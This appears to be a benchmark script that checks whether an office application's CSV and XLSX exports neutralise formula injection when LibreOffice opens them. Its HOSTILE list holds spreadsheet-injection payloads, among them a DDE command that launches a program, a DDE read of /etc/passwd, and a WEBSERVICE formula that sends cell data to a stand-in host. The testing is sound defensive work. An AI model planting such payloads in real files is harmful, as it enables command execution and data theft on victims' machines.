// Files for spreadsheet programs, opened by one: `npm run bench -- sheets`. LibreOffice has to be there; nothing else needs it.
import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { pathToFileURL } from 'node:url'
import { readCsv } from '../api/src/codelists/importing.rules.ts'
import { startEmbedded } from '../api/src/db/embedded.ts'
import { RESOURCES } from '../api/src/resources.list.ts'
import { unharmed } from '../api/src/base/formulas.ts'
import { runServer } from '../tools/run-server.ts'
import { withClient } from './bench-database.ts'
import { type Cell, readTable } from './flat-table.ts'
import { printFigures, say, sayTable } from './report.ts'

const ADMINISTRATOR = { username: 'skrbnik', password: 'Demo-geslo-1' }
/** What has made programs compute, call others or lose their columns. */
const HOSTILE = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u200B=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;1)',
  "=cmd|'/C calc'!A0",
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=HYPERLINK("https://zlo.example";"Račun")',
  '=WEBSERVICE("https://zlo.example/?"&A1)',
  '"=1+1',
  "'=1+1",
  'Žaga";=1+1;"Mizar',
  'Žaga;=1+1',
  'Žaga\r\n=1+1;=2+2',
  '{=1+1}',
  'č š ž Č Š Ž ć đ €',
]
/** Separated by semicolons, UTF-8, Slovenian. As the program offers it, or with everything guessed and computed that it can. */
const OPENED = {
  asked: '59,34,76,1,,1060,false,false',
  guessed: '59,34,76,1,,1060,false,true,false,false,false,-1,true',
}

interface Compared {
  rows: number
  cells: number
  /** Cells that say something else, and rows with other columns. */
  other: string[]
  formulas: number
  /** Texts the program has made numbers or days of. */
  guessed: number
}

const asLines = (text: string): string => text.replaceAll(/\r\n?/g, '\n')
function says(wanted: string, { kind, text, value }: Cell): boolean {
  if (kind === 'float') return Number(wanted.replace(',', '.')) === Number(value)
  if (kind === 'date') return value.startsWith(wanted) || text === wanted
  return text === asLines(wanted)
}

function compare(wanted: readonly string[][], found: readonly Cell[][]): Compared {
  const sums: Compared = { rows: wanted.length, cells: 0, other: [], formulas: 0, guessed: 0 }
  if (found.length !== wanted.length) sums.other.push(`${found.length} rows instead of ${wanted.length}`)
  for (const [at, cells] of wanted.entries()) {
    const row = found[at] ?? []
    if (row.length > cells.length) sums.other.push(`row ${at + 1} has ${row.length} columns instead of ${cells.length}`)
    for (const [column, text] of cells.entries()) {
      const cell = row[column] ?? { kind: '', text: '', value: '', isFormula: false }
      sums.cells += 1
      sums.formulas += Number(cell.isFormula)
      sums.guessed += Number(cell.kind !== 'string' && cell.kind !== '')
      if (!says(text, cell))
        sums.other.push(`${JSON.stringify(text)} became ${JSON.stringify(cell.text)} (${cell.kind})`)
    }
  }
  return sums
}

/** The program, with a profile of its own; opens a file and writes what it has understood. */
function opener(program: string, folder: string) {
  return (file: string, filter?: string): Cell[][] => {
    const to = path.join(folder, 'opened')
    mkdirSync(to, { recursive: true })
    const profile = `-env:UserInstallation=${pathToFileURL(path.join(folder, 'profile')).href}`
    const options = filter ? [`--infilter=CSV:${filter}`] : []
    const run = spawnSync(
      program,
      [profile, '--headless', '--norestore', ...options, '--convert-to', 'fods', '--outdir', to, file],
      { encoding: 'utf8', timeout: 120_000 },
    )
    const made = path.join(to, `${path.parse(file).name}.fods`)
    if (run.status !== 0) throw new Error(`${program} ended with ${run.status}: ${run.stderr}`)
    return readTable(readFileSync(made, 'utf8'))
  }
}

async function signIn(origin: string): Promise<Record<string, string>> {
  const headers = { 'X-Requested-With': 'XMLHttpRequest', 'Accept-Language': 'sl-SI' }
  const answer = await fetch(`${origin}/api/auth/login`, {
    method: 'POST',
    headers,
    body: new URLSearchParams(ADMINISTRATOR),
  })
  if (!answer.ok) throw new Error(`Signing in was refused: ${await answer.text()}`)
  const cookie = answer.headers.getSetCookie().map((one) => one.split(';', 1)[0])
  return { ...headers, Cookie: cookie.join('; '), 'Content-Type': 'application/json' }
}

/** Companies called like nothing a form would take, as an older system may have left them. */
const writeHostile = (url: string): Promise<unknown> =>
  withClient(url, (client) =>
    client.query(
      `insert into companies (name_sl, name_en, city) select text, text, 'Čatež' from unnest($1::text[]) text`,
      [HOSTILE],
    ),
  )

/** Exports every list of the office there is in both kinds of file, and opens each. */
export async function benchSheets(): Promise<void> {
  const program = process.env['SOFFICE'] ?? 'soffice'
  const version = spawnSync(program, ['--version'], { encoding: 'utf8' })
  if (version.status !== 0)
    throw new Error('LibreOffice Calc is needed (libreoffice-calc in Debian), or the path of its soffice in SOFFICE.')
  const folder = mkdtempSync(path.join(tmpdir(), 'korak-sheets-'))
  const server = await runServer({ dataDir: folder, settings: { SEED: 'story', RATE_LIMITS: 'off' } })
  const embedded = await startEmbedded({ dataDir: folder, log: () => {} })
  const open = opener(program, folder)
  const results: [string, Compared][] = []
  const take = (name: string, compared: Compared): void => {
    results.push([name, compared])
    console.error(`  ${name}: ${compared.cells} cells, ${compared.other.length} other, ${compared.formulas} formulas`)
  }
  try {
    await writeHostile(embedded.url)
    const headers = await signIn(server.url)
    const exported = async (list: string, format: string, columns: readonly string[]): Promise<string> => {
      const body = JSON.stringify({ list, format, columns, password: ADMINISTRATOR.password })
      const answer = await fetch(`${server.url}/api/list-exports`, { method: 'POST', headers, body })
      if (!answer.ok) throw new Error(`${list} as ${format}: ${await answer.text()}`)
      const file = path.join(folder, `${list}-${format}.${format}`)
      writeFileSync(file, Buffer.from(await answer.arrayBuffer()))
      return file
    }
    for (const [list, resource] of RESOURCES) {
      if (!resource.exported) continue
      const columns = Object.keys(resource.exported)
      const csv = await exported(list, 'csv', columns)
      const cells = readCsv(readFileSync(csv, 'utf8')).map((row) => row.cells)
      if (list === 'companies') requireAll(cells.map(([name = '']) => unharmed(name)))
      take(`${list}, CSV`, compare(cells, open(csv, OPENED.asked)))
      take(`${list}, CSV, all guessed`, compare(cells, open(csv, OPENED.guessed)))
      const plain = cells.map((row) => row.map(unharmed))
      const opened = open(await exported(list, 'xlsx', columns))
      // The trail knows of the first file by the time of the second: newest first, under the heads.
      if (list === 'audit-trail') opened.splice(1, opened.length - plain.length)
      take(`${list}, XLSX`, compare(plain, opened))
    }
    print(version.stdout.split('\n', 1)[0] ?? program, results)
  } finally {
    await server.stop()
    await embedded.stop()
    rmSync(folder, { recursive: true, force: true })
  }
}

function requireAll(names: readonly string[]): void {
  const there = new Set(names.map(asLines))
  const missing = HOSTILE.filter((text) => !there.has(asLines(text)))
  if (missing.length > 0) throw new Error(`Not in the file: ${JSON.stringify(missing)}`)
}

function print(program: string, results: readonly [string, Compared][]): void {
  sayTable(
    `Exports of the office opened by ${program}, ${HOSTILE.length} hostile names among them`,
    ['file', 'rows', 'cells', 'said something else', 'formulas', 'read as numbers or days'],
    results.map(([name, { rows, cells, other, formulas, guessed }]) => [
      name,
      ...[rows, cells, other.length, formulas, guessed].map(String),
    ]),
  )
  for (const [name, { other }] of results) for (const one of other.slice(0, 12)) say(`\n${name}: ${one}`)
  const sum = (what: (one: Compared) => number) => results.reduce((total, [, one]) => total + what(one), 0)
  printFigures('What must not happen', [
    {
      name: 'cells that say something else, or are elsewhere',
      value: sum(({ other }) => other.length),
      unit: '',
      floor: 0,
    },
    { name: 'formulas', value: sum(({ formulas }) => formulas), unit: '', floor: 0 },
  ])
}
